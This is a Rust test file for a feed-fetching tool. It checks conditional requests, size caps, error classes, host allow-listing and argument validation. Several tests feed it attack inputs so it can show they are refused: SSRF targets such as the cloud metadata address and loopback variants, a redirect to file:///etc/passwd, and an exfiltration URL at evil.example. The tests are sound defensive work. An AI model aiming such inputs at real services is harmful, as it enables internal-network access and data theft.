//! Feeds on the web: asked again only whether they changed, and every way in which a host can be
//! difficult.

use std::sync::atomic::Ordering;

use serde_json::{Value, json};

use super::{
    FeedPlace, ListedFeed, UrlAccess, client,
    host::{Answer, Host},
    options, rss,
};
use crate::{
    client::{Client, tenant},
    feeds::MAX_FEED_BYTES,
};
use chimera_domain::fault::{Fault, FaultClass};

async fn fetch(client: &Client, url: &str) -> Result<Value, Fault> {
    client.call("fetch_feed", json!({"url": url})).await
}

#[tokio::test]
async fn a_feed_is_fetched_once_and_then_asked_whether_it_changed() {
    let host = Host::start().await;
    host.answer(
        "/f",
        Answer::Tagged("\"v1\"", rss("<item><title>One</title></item>")),
    );
    let client = client(options(&["127.0.0.1"])).await;
    let first = fetch(&client, &host.url("/f")).await.unwrap();
    assert_eq!(
        (&first["not_modified"], &first["items"][0]["title"]),
        (&json!(false), &json!("One"))
    );
    let second = fetch(&client, &host.url("/f")).await.unwrap();
    assert_eq!(second["not_modified"], true);
    assert_eq!(second["items"], first["items"]);
    let asked = host.asked();
    assert!(!asked[0].contains("if-none-match"));
    assert!(
        asked[1].contains("if-none-match: \"v1\"")
            && asked[1].contains("if-modified-since: sat, 21 nov 2026")
    );
    // A new edition is new.
    host.answer(
        "/f",
        Answer::Tagged("\"v2\"", rss("<item><title>Two</title></item>")),
    );
    let third = fetch(&client, &host.url("/f")).await.unwrap();
    assert_eq!(
        (&third["not_modified"], &third["items"][0]["title"]),
        (&json!(false), &json!("Two"))
    );
}

#[tokio::test]
async fn a_private_address_is_refused_unless_the_operator_listed_it() {
    let host = Host::start().await;
    host.feed("/f", rss("<item><title>Internal</title></item>"));
    let outsider = client(options(&[])).await;
    for url in [
        host.url("/f"),
        format!("http://localhost:{}/f", host.port),
        format!("http://2130706433:{}/f", host.port),
        format!("http://[::ffff:127.0.0.1]:{}/f", host.port),
        "http://169.254.169.254/latest/meta-data".to_owned(),
        "http://10.0.0.1/".to_owned(),
    ] {
        let error = fetch(&outsider, &url).await.unwrap_err();
        assert_eq!(error.code, "FEED_ADDRESS_REFUSED", "{url}: {error}");
        let words = error.to_string();
        for said in ["nothing was read", "CHIMERA_ALLOW_HOSTS=", "allow_hosts"] {
            assert!(words.contains(said), "{url}: {words}");
        }
    }
    assert_eq!(host.asked(), Vec::<String>::new());
    let insider = client(options(&["127.0.0.1"])).await;
    assert!(fetch(&insider, &host.url("/f")).await.is_ok());
}

#[tokio::test]
async fn a_redirect_is_followed_but_not_in_circles_and_not_into_the_house() {
    let host = Host::start().await;
    let redirect = |to: &str| Answer::Whole(302, format!("Location: {to}\r\n"), Vec::new());
    host.feed("/f", rss("<item><title>x</title></item>"));
    host.answer("/moved", redirect("/f"));
    host.answer("/a", redirect("/b"));
    host.answer("/b", redirect("/a"));
    host.answer("/inside", redirect("http://127.0.0.2/secret"));
    host.answer("/file", redirect("file:///etc/passwd"));
    let client = client(options(&["127.0.0.1"])).await;
    let moved = fetch(&client, &host.url("/moved")).await.unwrap();
    assert_eq!(moved["feed"]["url"], host.url("/f"));
    for (path, code) in [
        ("/a", "FEED_REDIRECTS"),
        ("/inside", "FEED_ADDRESS_REFUSED"),
        ("/file", "FEED_URL_INVALID"),
    ] {
        assert_eq!(
            fetch(&client, &host.url(path)).await.unwrap_err().code,
            code,
            "{path}"
        );
    }
}

#[tokio::test]
async fn fifty_megabytes_are_stopped_at_eight() {
    let host = Host::start().await;
    host.answer(
        "/told",
        Answer::Whole(200, String::new(), vec![b'x'; 50 * 1024 * 1024]),
    );
    host.answer("/untold", Answer::Endless(50 * 1024 * 1024));
    let client = client(options(&["127.0.0.1"])).await;
    for path in ["/told", "/untold"] {
        let error = fetch(&client, &host.url(path)).await.unwrap_err();
        assert_eq!(error.code, "FEED_TOO_LARGE", "{error}");
        assert!(
            error.message.contains(&MAX_FEED_BYTES.to_string()),
            "{error}"
        );
    }
    // What was in the pipes when the reading stopped, and no more.
    assert!(host.sent.load(Ordering::Relaxed) < 30 * 1024 * 1024);
}

#[tokio::test]
async fn difficult_hosts_are_told_apart() {
    let host = Host::start().await;
    host.answer(
        "/busy",
        Answer::Whole(503, "Retry-After: 7\r\n".into(), Vec::new()),
    );
    host.feed("/page", "<!DOCTYPE html><html></html>");
    host.feed("/torn", &rss("<item>\n<title>x")[..]);
    let client = client(options(&["127.0.0.1"])).await;
    let busy = fetch(&client, &host.url("/busy")).await.unwrap_err();
    assert_eq!(
        (busy.code.as_str(), busy.class, busy.retry_after_ms),
        ("FEED_STATUS", FaultClass::Transient, Some(7_000))
    );
    for (url, code, class) in [
        (host.url("/nowhere"), "FEED_STATUS", FaultClass::Permanent),
        (host.url("/page"), "FEED_MALFORMED", FaultClass::Validation),
        (host.url("/torn"), "FEED_MALFORMED", FaultClass::Validation),
        (
            "http://127.0.0.1:1/".to_owned(),
            "FEED_UNREACHABLE",
            FaultClass::Transient,
        ),
        (
            "ftp://127.0.0.1/f".to_owned(),
            "FEED_URL_INVALID",
            FaultClass::Validation,
        ),
        (
            "not a url".to_owned(),
            "FEED_URL_INVALID",
            FaultClass::Validation,
        ),
    ] {
        let error = fetch(&client, &url).await.unwrap_err();
        assert_eq!(
            (error.code.as_str(), error.class),
            (code, class),
            "{url}: {error}"
        );
    }
}

#[tokio::test]
async fn only_listed_feeds_are_read_where_the_operator_wants_it_so() {
    let host = Host::start().await;
    host.feed("/ours", rss("<item><title>x</title></item>"));
    host.feed("/theirs", rss("<item><title>y</title></item>"));
    let mut theirs = ListedFeed::new("theirs", FeedPlace::Url(host.url("/theirs")));
    theirs.tenant = Some(tenant(2));
    let mut options = options(&["127.0.0.1"]);
    options.urls = UrlAccess::Listed;
    options.feeds = vec![
        ListedFeed::new("ours", FeedPlace::Url(host.url("/ours"))),
        theirs,
    ];
    let client = client(options).await;
    assert!(fetch(&client, &host.url("/ours")).await.is_ok());
    for url in [
        host.url("/theirs"),
        host.url("/ours?data=stolen"),
        "https://evil.example/?data=stolen".to_owned(),
    ] {
        let error = fetch(&client, &url).await.unwrap_err();
        assert_eq!(error.code, "FEED_NOT_LISTED", "{url}");
    }
    assert_eq!(host.asked().len(), 1);
    let listed = client.call("list_feeds", json!({})).await.unwrap();
    assert_eq!(
        listed,
        json!({"feeds": [{"name": "ours", "url": host.url("/ours"), "topics": []}]})
    );
}

#[tokio::test]
async fn a_call_names_one_feed() {
    let client = client(options(&[])).await;
    for (arguments, code) in [
        (json!({}), "FEED_SOURCE_INVALID"),
        (
            json!({"url": "https://example.com", "path": "/x"}),
            "FEED_SOURCE_INVALID",
        ),
        (json!({"url": 7}), "TOOL_ARGUMENTS_INVALID"),
        (json!({"path": "/x", "depth": 1}), "TOOL_ARGUMENTS_INVALID"),
        (
            json!({"path": "/x", "since": "yesterday"}),
            "TOOL_ARGUMENTS_INVALID",
        ),
    ] {
        let error = client
            .call("fetch_feed", arguments.clone())
            .await
            .unwrap_err();
        assert_eq!(error.code, code, "{arguments}");
    }
}

#[tokio::test]
async fn since_and_max_items_narrow_the_answer_and_the_undated_stay() {
    let host = Host::start().await;
    let dated = |title: &str, date: &str| {
        format!("<item><title>{title}</title><pubDate>{date}</pubDate></item>")
    };
    let items = [
        dated("new", "Sat, 21 Nov 2026 09:00:00 GMT"),
        dated("old", "Fri, 20 Nov 2026 09:00:00 GMT"),
        "<item><title>undated</title></item>".to_owned(),
        dated("newer", "Sat, 21 Nov 2026 09:30:00 GMT"),
    ];
    host.feed("/f", rss(&items.concat()));
    let client = client(options(&["127.0.0.1"])).await;
    let titles = async |arguments: Value| {
        let page = client.call("fetch_feed", arguments).await.unwrap();
        let items = page["items"].as_array().unwrap();
        items
            .iter()
            .map(|item| item["title"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    let url = host.url("/f");
    assert_eq!(
        titles(json!({"url": url, "since": "2026-11-21T00:00:00Z"})).await,
        ["new", "undated", "newer"]
    );
    assert_eq!(
        titles(json!({"url": url, "max_items": 2})).await,
        ["new", "old"]
    );
}

#[tokio::test]
async fn both_tools_have_schemas_and_suggested_classes() {
    let client = client(options(&[])).await;
    let mut listed = Vec::new();
    for tool in client.tools().await {
        assert!(tool.output_schema.is_some(), "{}", tool.name);
        listed.push(tool.name.to_string());
    }
    let classed: Vec<_> = crate::feeds::Feeds::suggested_classes()
        .into_iter()
        .map(|(name, _)| name.to_owned())
        .collect();
    assert_eq!(listed, classed);
}
